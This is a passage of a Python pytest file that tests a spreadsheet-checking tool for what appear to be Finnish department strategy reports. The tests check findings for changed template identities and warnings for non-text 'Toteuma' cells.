    ymp.rename(edited / ymp.name)
    # A template written before the fingerprint existed: no key, and no new finding.
    hyv = next(folder.glob("*Hyvinvointi*.xlsx"))
    _set_identity(hyv, "tunnisteen_tarkiste", None)
    _set_identity(hyv, "kausi", PERIOD)
    hyv.rename(edited / hyv.name)

    found = {(f["code"], f["department"]) for f in _findings()}
    assert ("identity-changed", "YMP") in found
    assert ("missing-department", "YMP") in found
    assert {code for code, dept in found if dept == "HYV"} == set()


def test_a_toteuma_that_is_a_date_a_number_or_true_gets_a_warning_at_its_cell(
        tmp_path: Path, mini_strategy: Strategy, monkeypatch: pytest.MonkeyPatch) -> None:
    import datetime as dt

    monkeypatch.chdir(tmp_path)
    first, second, third = [a.id for a in mini_strategy.actions_for("YMP")][:3]
    workfolder(tmp_path, mini_strategy, answers={"YMP": {
        first: {"Toteuma": dt.datetime(2025, 6, 1)}, second: {"Toteuma": 42.5},
        third: {"Toteuma": True}}})
    found = sorted((f["row_id"], f["cell"][:1], f["message"]) for f in _findings()
                   if f["code"] == "toteuma-not-text")
    assert [(row, column) for row, column, _ in found] == sorted(
        [(first, "G"), (second, "G"), (third, "G")])
    messages = {row: message for row, _, message in found}
    assert messages[first].startswith("Toteuma-solussa on päivämäärä (1.6.2025) eikä tekstiä.")
    assert messages[second].startswith("Toteuma-solussa on luku (42.5) eikä tekstiä.")
    assert messages[third].startswith("Toteuma-solussa on totuusarvo (TOSI) eikä tekstiä.")
